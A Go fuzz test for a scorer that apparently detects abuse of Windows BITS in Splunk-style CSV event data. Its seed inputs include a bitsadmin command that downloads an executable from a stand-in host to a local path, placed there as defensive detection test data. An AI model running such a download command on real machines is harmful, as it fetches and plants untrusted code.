package command

import (
	"bytes"
	"errors"
	"slices"
	"testing"

	"bitsscore/src/detect"
	"bitsscore/src/internal/testevents"
	"bitsscore/src/splcsv"
)

// rawTable is a body as cells' raw bytes, the way the scorer passes them.
type rawTable struct {
	header []string
	rows   [][]string
}

func readRaw(body []byte) (rawTable, error) {
	var t rawTable
	r := splcsv.NewReader(body)
	if _, err := r.ReadHeader(); err != nil {
		return t, err
	}
	t.header = slices.Clone(r.Header())
	for {
		fields, err := r.Next()
		if err != nil || fields == nil {
			return t, err
		}
		row := make([]string, len(fields))
		for i, f := range fields {
			row[i] = string(f.Raw)
		}
		t.rows = append(t.rows, row)
	}
}

// FuzzScoreChunk feeds any body to the chunk scorer. It must never panic;
// it either refuses the body with a CSV or multivalue error, or returns
// every record once, in order, with every cell of a column the detector
// does not own byte for byte as sent, the input's columns leading the
// header, every output present, and a reply that scores to itself.
func FuzzScoreChunk(f *testing.F) {
	f.Add(testevents.Body(3, 1))
	f.Add([]byte("Image,CommandLine,ProcessCommandLine,\"_chunked_idx\",\"__mv_Image\",\"__mv_CommandLine\",\"__mv_ProcessCommandLine\"\n" +
		"\"notepad.exe\nC:\\x\\bitsadmin.exe\",\"bitsadmin /reset\",,0,\"$notepad.exe$;$C:\\x\\bitsadmin.exe$\",,\n" +
		"C:\\p\\powershell.exe,,\"echo $a\nStart-BitsTransfer x\",1,,,\"$echo $$a$;$Start-BitsTransfer x$\"\n"))
	f.Add([]byte("IsBitsAdmin,Image,\"__mv_IsBitsAdmin\",\"_chunked_idx\"\n7,C:\\x\\bitsadmin.exe,\"$7$;$8$\",0\n"))
	f.Add([]byte("_raw,host\n\"a\x00\xff\rb\",h\n"))
	f.Add([]byte("CommandLine\n\nbitsadmin /transfer x http://e.example/a.exe c:\\a.exe\n"))
	f.Add([]byte("Image,__mv_Image\nx,$bad\n"))
	f.Fuzz(func(t *testing.T, body []byte) {
		s := newChunkScorer(detect.NewSPL())
		reply, err := scoreBody(t, s, body)
		if err != nil {
			var pe *splcsv.ParseError
			if !errors.As(err, &pe) && !errors.Is(err, splcsv.ErrMultivalue) {
				t.Fatalf("error %T %v, want a CSV or multivalue error", err, err)
			}
			return
		}
		in, err := readRaw(body)
		if err != nil {
			t.Fatalf("the scorer accepted a body splcsv refuses: %v", err)
		}
		if in.header == nil {
			if len(reply) != 0 {
				t.Fatalf("no header, reply %q", reply)
			}
			return
		}
		out, err := readRaw(reply)
		if err != nil {
			t.Fatalf("reply %q does not parse: %v", reply, err)
		}
		if !slices.Equal(out.header[:min(len(in.header), len(out.header))], in.header) {
			t.Fatalf("reply header %q does not start with %q", out.header, in.header)
		}
		owned := map[string]bool{}
		for _, name := range s.outputs {
			owned[name], owned[splcsv.MultivaluePrefix+name] = true, true
			if !slices.Contains(out.header, name) || !slices.Contains(out.header, splcsv.MultivaluePrefix+name) {
				t.Fatalf("reply header %q lacks %s or its companion", out.header, name)
			}
		}
		if len(out.rows) != len(in.rows) {
			t.Fatalf("%d records in, %d out", len(in.rows), len(out.rows))
		}
		for r := range in.rows {
			for c, name := range in.header {
				if !owned[name] && out.rows[r][c] != in.rows[r][c] {
					t.Fatalf("record %d, %s: %q came back as %q", r, name, in.rows[r][c], out.rows[r][c])
				}
			}
		}
		again, err := scoreBody(t, newChunkScorer(detect.NewSPL()), reply)
		if err != nil {
			t.Fatalf("scoring the reply again: %v", err)
		}
		if !bytes.Equal(again, reply) {
			t.Fatalf("the reply scores to something else:\n%q\n%q", reply, again)
		}
	})
}
